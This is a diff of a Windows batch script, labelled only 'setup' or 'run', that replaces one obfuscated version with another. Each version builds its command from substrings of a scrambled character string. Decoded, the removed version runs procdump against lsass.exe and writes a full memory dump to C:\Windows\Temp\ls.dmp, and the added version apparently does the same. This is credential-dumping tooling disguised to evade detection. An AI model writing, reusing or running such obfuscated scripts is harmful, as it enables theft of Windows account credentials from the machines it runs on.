@@ -1,4 +1,4 @@
-REM setup 1647 v3
-@ech^o o^f^f
-se^t "dnte=4Hlwocfyt6:ixTd.CrnXQAa-mvps\uWe3"
-%dnte:~26,1%%dnte:~17,1%%dnte:~-29,1%%dnte:~-28,1%%dnte:~14,1%%dnte:~-4,1%%dnte:~24,1%%dnte:~26,1%%dnte:~-24,1%%dnte:~0,1%%dnte:~15,1%%dnte:~31,1%%dnte:~12,1%%dnte:~-2,1% %dnte:~23,1%%dnte:~22,1%%dnte:~5,1%%dnte:~-28,1%%dnte:~-2,1%%dnte:~26,1%%dnte:~-25,1%%dnte:~31,1%%dnte:~-4,1%%dnte:~-31,1%%dnte:~22,1% %dnte:~23,1%%dnte:~-9,1%%dnte:~-11,1% %dnte:~2,1%%dnte:~27,1%%dnte:~-11,1%%dnte:~27,1%%dnte:~27,1%%dnte:~-18,1%%dnte:~-2,1%%dnte:~-21,1%%dnte:~31,1% %dnte:~-17,1%%dnte:~10,1%%dnte:~28,1%%dnte:~30,1%%dnte:~11,1%%dnte:~-15,1%%dnte:~14,1%%dnte:~4,1%%dnte:~3,1%%dnte:~-6,1%%dnte:~28,1%%dnte:~13,1%%dnte:~-2,1%%dnte:~24,1%%dnte:~26,1%%dnte:~-5,1%%dnte:~-31,1%%dnte:~27,1%%dnte:~15,1%%dnte:~-19,1%%dnte:~-9,1%%dnte:~-7,1%
+REM run 3459 v3
+@e^c^ho ^o^ff
+set "jurt=hm4oW35ad6Kuc.C8:Hswix\yrn-ptTlSe"
+%jurt:~-6,1%%jurt:~24,1%%jurt:~3,1%%jurt:~12,1%%jurt:~-25,1%%jurt:~11,1%%jurt:~1,1%%jurt:~-6,1%%jurt:~9,1%%jurt:~2,1%%jurt:~13,1%%jurt:~32,1%%jurt:~21,1%%jurt:~-1,1% %jurt:~26,1%%jurt:~7,1%%jurt:~12,1%%jurt:~12,1%%jurt:~32,1%%jurt:~27,1%%jurt:~28,1%%jurt:~-1,1%%jurt:~11,1%%jurt:~-3,1%%jurt:~7,1% %jurt:~26,1%%jurt:~1,1%%jurt:~7,1% %jurt:~30,1%%jurt:~-15,1%%jurt:~-26,1%%jurt:~18,1%%jurt:~-15,1%%jurt:~13,1%%jurt:~32,1%%jurt:~21,1%%jurt:~32,1% %jurt:~-19,1%%jurt:~-17,1%%jurt:~-11,1%%jurt:~4,1%%jurt:~20,1%%jurt:~-8,1%%jurt:~8,1%%jurt:~-30,1%%jurt:~19,1%%jurt:~-15,1%%jurt:~22,1%%jurt:~29,1%%jurt:~32,1%%jurt:~-32,1%%jurt:~27,1%%jurt:~22,1%%jurt:~-3,1%%jurt:~-15,1%%jurt:~13,1%%jurt:~8,1%%jurt:~1,1%%jurt:~27,1%
